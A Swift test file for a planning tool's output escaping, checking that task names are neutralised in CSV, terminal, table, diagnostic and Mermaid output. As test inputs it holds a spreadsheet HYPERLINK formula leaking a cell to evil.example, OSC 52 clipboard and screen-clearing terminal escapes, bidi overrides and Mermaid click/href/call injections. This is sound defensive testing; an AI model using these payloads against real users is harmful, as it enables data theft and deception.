import Foundation
import PlanGraph
import Testing

/// Plan text made inert wherever it lands (issue 13, D3, D4, D5, D14): CSV cells a spreadsheet will
/// not run, terminal text that cannot drive the terminal, widths that keep rows aligned, and Mermaid
/// lines that no name can turn into a keyword, comment or link.
struct OutputEscapingTests {
  /// A YAML double-quoted scalar holding `text` exactly.
  static func quoted(_ text: String) -> String {
    var out = "\""
    for scalar in text.unicodeScalars {
      switch scalar {
      case "\\": out += "\\\\"
      case "\"": out += "\\\""
      case "\n": out += "\\n"
      case "\r": out += "\\r"
      case "\t": out += "\\t"
      default:
        if scalar.value < 0x20 || (0x7F..<0xA0).contains(scalar.value) {
          out += String(format: "\\u%04X", scalar.value)
        } else {
          out.unicodeScalars.append(scalar)
        }
      }
    }
    return out + "\""
  }

  /// A plan of one chain of tasks with these names.
  static func plan(names: [String]) -> String {
    var yaml = "plan: 测试\nstart: 2017-09-01\nowner: org\nowners:\n  - { id: org, name: 组织 }\ntasks:\n"
    for (i, name) in names.enumerated() {
      yaml += "  - { id: t\(i), name: \(quoted(name)), duration: 2d\(i > 0 ? ", after: [t\(i - 1)]" : "") }\n"
    }
    return yaml
  }

  // MARK: CSV (D3)

  @Test(arguments: [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("-5", "-5"), ("+3", "+3"), ("-0.25", "-0.25"), ("a=b", "a=b"), ("", ""), ("x\0y", "x\u{FFFD}y"),
  ])
  func csvCellsThatWouldRunAsFormulasAreText(_ input: String, _ expected: String) {
    #expect(CSVText.neutralised(input) == expected)
  }

  @Test func aHyperlinkFormulaInANameIsWrittenAsText() throws {
    let s = try Scheduled(Self.plan(names: ["=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"click me\")", "\rx"]))
    let csv = ScheduleReport(plan: s.plan, schedule: s.schedule, language: .en).csv()
    #expect(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B3,\"\"click me\"\")\","))
    #expect(csv.contains(",\"'\rx\","))
    #expect(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"))
  }

  /// `overdue --format csv` with no `-o` prints to the terminal: a name must not set its title, write the
  /// clipboard (OSC 52) or clear the screen there. Line breaks inside a quoted cell stay.
  @Test func csvShowsTerminalEscapesInert() throws {
    let s = try Scheduled(Self.plan(names: ["osc\u{1B}]52;c;SGVsbG8=\u{07} rev\u{202E}erse", "two\nlines"]))
    let csv = ScheduleReport(plan: s.plan, schedule: s.schedule, language: .en).csv()
    #expect(!csv.unicodeScalars.contains { TerminalText.isUnsafe($0) && $0 != "\n" && $0 != "\r" })
    #expect(csv.contains("osc\\e]52;c;SGVsbG8=\\a rev\\u{202E}erse"))
    #expect(csv.contains("\"two\nlines\""))
  }

  @Test func nulNeverReachesCSVOrMarkdown() {
    #expect(!CSVText.field("a\0b").utf8.contains(0))
    #expect(!MarkdownText.cell("a\0b").utf8.contains(0))
  }

  // MARK: Terminal (D4, D14)

  @Test(arguments: [
    ("a\u{1B}]52;c;SGVsbG8=\u{07}b", "a\\e]52;c;SGVsbG8=\\ab"), ("x\ry", "x\\ry"), ("line\nbreak", "line\\nbreak"),
    ("\u{0}", "\\0"), ("c1\u{9B}31m", "c1\\u{9B}31m"), ("del\u{7F}", "del\\x7F"), ("abc\u{202E}def", "abc\\u{202E}def"),
    ("iso\u{2066}x\u{2069}", "iso\\u{2066}x\\u{2069}"), ("tab\there", "tab here"), ("中文 ok", "中文 ok"),
  ])
  func terminalControlsAreVisibleEscapes(_ input: String, _ expected: String) {
    #expect(TerminalText.inline(input) == expected)
  }

  @Test func aScreenKeepsItsOwnColoursAndEscapesAnyOther() {
    let painted = TerminalStyle(enabled: true).red("late") + " \u{1B}]0;title\u{07} \u{1B}[2J\n"
    let shown = TerminalText.screen(painted, keepingStyles: true)
    #expect(shown == "\u{1B}[1;31mlate\u{1B}[0m \\e]0;title\\a \\e[2J\n")
    #expect(
      TerminalText.screen(painted, keepingStyles: false).unicodeScalars.allSatisfy {
        !TerminalText.isUnsafe($0) || $0 == "\n"
      })
  }

  @Test func tablesShowHostileNamesInert() throws {
    let s = try Scheduled(Self.plan(names: ["bell\u{07} osc\u{1B}]52;c;SGVsbG8=\u{07}", "rev\u{202E}erse", "nul\0"]))
    let table = ScheduleReport(plan: s.plan, schedule: s.schedule, language: .en).table(width: 200, style: .plain)
    #expect(!table.unicodeScalars.contains { TerminalText.isUnsafe($0) && $0 != "\n" })
    #expect(table.contains("osc\\e]52;c;SGVsbG8=\\a"))
    #expect(table.contains("rev\\u{202E}erse"))
  }

  @Test func diagnosticsShowFileNamesMessagesAndLinesInert() {
    let file = "evil:99:1: error: fake\nreal.yaml"
    let diagnostic = Diagnostic(
      .error, .invalidValue, "bad name 'x\u{1B}[2Jy'", at: FileLocation(file: file, line: 1, column: 7, length: 3),
      hint: "try \u{202E}this")
    let text = DiagnosticFormatter().format([diagnostic], sources: [file: Array("name: \u{1B}[2J x\n".utf8)])
    let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
    #expect(lines.first == "evil:99:1: error: fake\\nreal.yaml:1:7: error: bad name 'x\\e[2Jy'")
    #expect(lines.count == 5)
    #expect(lines[1] == "    name: \\e[2J x")
    // The caret stands under the escaped text it points at.
    #expect(lines[2] == "          ^~~~")
    #expect(lines[3] == "hint: try \\u{202E}this")
  }

  @Test(arguments: [
    ("👩‍👩‍👧", 2), ("❤️", 2), ("❤", 1), ("🇨🇳", 2), ("👍🏽", 2), ("中文", 4), ("e\u{301}", 1), ("ａｂ", 4), ("abc", 3),
    ("한국어", 6), ("\u{1B}", 0),
  ])
  func widthsFollowGraphemeClustersAndEastAsianWidth(_ text: String, _ columns: Int) {
    #expect(TextWidth.of(text) == columns)
  }

  @Test func rowsWithEmojiSequencesStayAligned() {
    var table = TextTable(columns: [TextTable.Column("name"), TextTable.Column("n", rightAligned: true)])
    for name in ["👩‍👩‍👧 family", "❤️ heart", "plain"] { table.rows.append(.cells([.init(name), .init("1")])) }
    let lines = table.render(width: 80, style: .plain).split(separator: "\n")
    #expect(Set(lines.map { TextWidth.of($0) }).count == 1)
  }

  // MARK: Mermaid (D5)

  /// Mermaid's gantt lexer rules (packages/mermaid/src/diagrams/gantt/parser/gantt.jison), in its order,
  /// as they apply at the start of a line once whitespace is skipped; jison takes the first that matches.
  static let mermaidRules: [(name: String, pattern: String)] = [
    ("open_directive", #"%%\{"#), ("acc_title", #"accTitle\s*:\s*"#), ("acc_descr", #"accDescr\s*:\s*"#),
    ("acc_descr_multiline", #"accDescr\s*\{\s*"#), ("comment", #"%%[^\n]*"#), ("comment", #"[^\}]%%*[^\n]*"#),
    ("comment", #"#[^\n]*"#), ("href", #"href[\s]+""#), ("call", #"call[\s]+"#), ("click", #"click[\s]+"#),
    ("gantt", "gantt"), ("dateFormat", #"dateFormat\s[^#\n;]+"#), ("inclusiveEndDates", "inclusiveEndDates"),
    ("topAxis", "topAxis"), ("axisFormat", #"axisFormat\s[^#\n;]+"#), ("tickInterval", #"tickInterval\s[^#\n;]+"#),
    ("includes", #"includes\s[^#\n;]+"#), ("excludes", #"excludes\s[^#\n;]+"#),
    ("todayMarker", #"todayMarker\s[^\n;]+"#), ("weekday", #"weekday\s[^#\n;]+"#), ("date", #"\d\d\d\d-\d\d-\d\d"#),
    ("title", #"title\s[^#\n;]+"#), ("accDescription", #"accDescription\s[^#\n;]+"#),
    ("section", #"section\s[^#:\n;]+"#), ("taskTxt", #"[^#:\n;]+"#),
  ]

  /// The first rule matching at the start of `text`, and how much it takes.
  static func firstToken(_ text: String) -> (name: String, length: Int)? {
    let range = NSRange(text.startIndex..., in: text)
    for rule in mermaidRules {
      guard let regex = try? NSRegularExpression(pattern: "^(?:" + rule.pattern + ")", options: [.caseInsensitive])
      else { continue }
      if let match = regex.firstMatch(in: text, options: [.anchored], range: range) {
        return (rule.name, match.range.length)
      }
    }
    return nil
  }

  static let hostileNames: [String] = {
    let keywords = [
      "gantt", "dateFormat", "inclusiveEndDates", "topAxis", "axisFormat", "tickInterval", "includes", "excludes",
      "todayMarker", "weekday", "title", "accTitle", "accDescr", "accDescription", "section", "click", "call", "href",
    ]
    var names: [String] = []
    for keyword in keywords {
      names += [keyword + " deeds transfer", keyword.uppercased() + " 1 kickoff", keyword.capitalized + ": x"]
    }
    names += [
      "Section 1 kickoff", "Call for proposals", "Title deeds transfer", "Dateformat YYYY", "Includes weekends",
      "5% budget cut", "%% comment", "%%{init: {}}%%", "}%% x", "a:b", "#hash", "semi;colon",
      "click t0 href \"//evil.example/login\"",
      "call alert(1)", "href \"//evil\"", "2017-10-01 kickoff", "  leading spaces", "\u{3000}Section ideographic",
      "quote \"x\" 'y'", "中文：冒号；分号＃", "《规划》、“引号”", "tab\tin", "new\nline", "`tick`", "", "x",
    ]
    return names
  }()

  @Test func everyMermaidTaskLineIsATaskWhateverTheName() throws {
    let names = Self.hostileNames.map { $0.isEmpty ? "·" : $0 }
    let s = try Scheduled(Self.plan(names: names))
    let text = MermaidExport(plan: s.plan, schedule: s.schedule, language: .en).markdown()
    let lines = text.split(separator: "\n").map(String.init)
    let body = lines.dropFirst(2).dropLast().filter { !$0.hasPrefix("    title ") && !$0.hasPrefix("    section ") }
    let tasks = body.filter {
      !["    dateFormat YYYY-MM-DD", "    axisFormat %Y-%m", "    todayMarker off"].contains($0)
    }
    #expect(tasks.count == names.count)
    var defined = Set<String>()
    for line in tasks {
      var rest = Substring(line)
      while let first = rest.unicodeScalars.first, first.properties.isWhitespace { rest = rest.dropFirst() }
      let token = try #require(Self.firstToken(String(rest)), "\(line)")
      #expect(token.name == "taskTxt", "\(line)")
      let data = String(rest).utf16.dropFirst(token.length)
      let dataText = try #require(String(data))
      #expect(dataText.range(of: #"^:[^#\n;%]+$"#, options: .regularExpression) != nil, "\(line)")
      let fields = dataText.dropFirst().split(separator: ",").map { $0.trimmingCharacters(in: .whitespaces) }
      if let after = fields.first(where: { $0.hasPrefix("after ") }) {
        for id in after.dropFirst(6).split(separator: " ") { #expect(defined.contains(String(id)), "\(line)") }
      }
      defined.insert(try #require(fields.first { $0.hasPrefix("t") && Int($0.dropFirst()) != nil }))
    }
    #expect(defined.count == names.count)
    #expect(!text.contains("%%") && !text.contains("5%"))
  }
}
